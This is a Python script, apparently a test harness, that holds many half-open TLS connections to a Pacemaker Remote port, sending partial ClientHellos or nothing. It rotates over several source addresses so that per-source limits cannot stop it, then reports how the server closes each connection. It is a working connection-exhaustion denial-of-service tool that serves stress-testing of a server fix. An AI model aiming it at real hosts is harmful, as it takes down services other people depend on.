#!/usr/bin/env python3
"""Keyless handshake flood: holds many half-open TLS connections to a Pacemaker Remote port.

Usage: flood.py HOST PORT [--connections N] [--seconds S] [--rate R] [--sources A-B]
                [--mode partial|silent] [--report FILE]

Keeps N connections open for S seconds, spread round-robin over the source addresses (a
range of loopback addresses such as 127.0.0.2-127.0.0.20, so a per-source limit alone cannot
stop it). Each connection sends the first bytes of a ClientHello (mode partial) or nothing
(mode silent) and then waits. When the server closes one, the flood opens another, at most R
new connections a second over all of them (well under what the issue measured as enough
against the old daemon). Never sends more than one partial record per connection; every wait
is bounded; stops by itself after S seconds (or at SIGTERM) and closes everything.

Prints one JSON object on stdout (and to --report): connections opened, connect failures,
how the server ended them (a user_canceled alert, close_notify, another alert, a plain close
or a reset), the most and fewest held at once after the first second, and a sample of held
counts over time. Progress goes to stderr. Only loopback or test-namespace addresses are
meant as targets.
"""

import argparse
import asyncio
import ipaddress
import json
import signal
import sys
import time

# A TLS record header claiming a 512-byte handshake record, then the start of a ClientHello
# (type 1, length 508, legacy version 3.3) and 16 bytes of its random: a handshake that a
# server must wait for, as a slow or malicious client would leave it.
PARTIAL_HELLO = bytes.fromhex("1603010200" "010001fc" "0303") + bytes(range(16))

ALERT = 0x15


def parse_sources(text):
    """'127.0.0.2-127.0.0.20' or 'a,b,c' to a list of address strings."""
    if "-" in text:
        first, last = (ipaddress.ip_address(p.strip()) for p in text.split("-", 1))
        count = int(last) - int(first) + 1
        if count < 1 or count > 1024:
            raise SystemExit(f"bad source range {text}")
        return [str(first + i) for i in range(count)]
    return [s.strip() for s in text.split(",") if s.strip()]


def classify(data, reset):
    """How the server ended a connection, from what it sent before closing."""
    if len(data) >= 7 and data[0] == ALERT:
        desc = data[6]
        if desc == 90:
            return "alert_user_canceled"
        if desc == 0:
            return "close_notify"
        return f"alert_{desc}"
    if reset:
        return "reset"
    return "closed" if not data else "other_data"


class Flood:
    def __init__(self, args):
        self.args = args
        self.sources = parse_sources(args.sources)
        self.stop_at = time.monotonic() + args.seconds
        self.held = 0
        self.opened = 0
        self.connect_failures = 0
        self.ends = {}
        self.samples = []
        self.min_held = None
        self.max_held = 0
        self.tokens = float(args.rate)
        self.last_refill = time.monotonic()
        self.next_source = 0

    async def take_token(self):
        # Each turn waits a little for the bucket to refill; bounded by the run's end.
        while time.monotonic() < self.stop_at:
            now = time.monotonic()
            self.tokens = min(
                float(self.args.rate), self.tokens + (now - self.last_refill) * self.args.rate
            )
            self.last_refill = now
            if self.tokens >= 1:
                self.tokens -= 1
                return True
            await asyncio.sleep(1.0 / self.args.rate)
        return False

    def source(self):
        s = self.sources[self.next_source % len(self.sources)]
        self.next_source += 1
        return s

    async def slot(self):
        # Each turn is one connection; the run's end bounds the number of turns.
        while time.monotonic() < self.stop_at:
            if not await self.take_token():
                return
            src = self.source()
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        self.args.host, self.args.port, local_addr=(src, 0)
                    ),
                    timeout=5,
                )
            except (OSError, asyncio.TimeoutError):
                self.connect_failures += 1
                await asyncio.sleep(0.1)
                continue
            self.opened += 1
            self.held += 1
            data = b""
            reset = False
            try:
                if self.args.mode == "partial":
                    writer.write(PARTIAL_HELLO)
                    await writer.drain()
                left = self.stop_at - time.monotonic()
                while left > 0 and len(data) < 4096:
                    chunk = await asyncio.wait_for(reader.read(4096), timeout=left)
                    if not chunk:
                        break
                    data += chunk
                    left = self.stop_at - time.monotonic()
            except asyncio.TimeoutError:
                data = None  # still held at the end of the run
            except OSError:
                reset = True
            finally:
                self.held -= 1
                writer.close()
            if data is not None:
                how = classify(data, reset)
                self.ends[how] = self.ends.get(how, 0) + 1

    async def sampler(self):
        start = time.monotonic()
        # One sample every half second until the end.
        while time.monotonic() < self.stop_at:
            await asyncio.sleep(0.5)
            t = time.monotonic() - start
            self.samples.append([round(t, 1), self.held])
            if t >= 1.0:
                self.max_held = max(self.max_held, self.held)
                self.min_held = self.held if self.min_held is None else min(self.min_held, self.held)
            if int(t * 2) % 20 == 0:
                print(
                    f"flood: {t:5.1f}s held {self.held} opened {self.opened} ends {self.ends}",
                    file=sys.stderr,
                    flush=True,
                )

    async def run(self):
        tasks = [asyncio.create_task(self.slot()) for _ in range(self.args.connections)]
        tasks.append(asyncio.create_task(self.sampler()))

        def stop_now():
            # SIGTERM ends the run early, still with a report.
            self.stop_at = time.monotonic()
            for t in tasks:
                t.cancel()

        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop_now)
        await asyncio.gather(*tasks, return_exceptions=True)
        return {
            "target": f"{self.args.host}:{self.args.port}",
            "connections": self.args.connections,
            "seconds": self.args.seconds,
            "rate_limit_per_s": self.args.rate,
            "sources": len(self.sources),
            "mode": self.args.mode,
            "opened": self.opened,
            "connect_failures": self.connect_failures,
            "ends": self.ends,
            "max_held": self.max_held,
            "min_held": self.min_held or 0,
            "samples": self.samples,
        }


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, default=500)
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--rate", type=float, default=200, help="new connections per second, at most")
    p.add_argument("--sources", default="127.0.0.2-127.0.0.20")
    p.add_argument("--mode", choices=["partial", "silent"], default="partial")
    p.add_argument("--report")
    args = p.parse_args()
    if not 1 <= args.connections <= 5000 or not 0 < args.seconds <= 3600 or args.rate <= 0:
        raise SystemExit("connections 1..5000, seconds 0..3600, rate > 0")
    result = asyncio.run(Flood(args).run())
    text = json.dumps(result)
    print(text, flush=True)
    if args.report:
        with open(args.report, "w") as f:
            f.write(text + "\n")


if __name__ == "__main__":
    main()
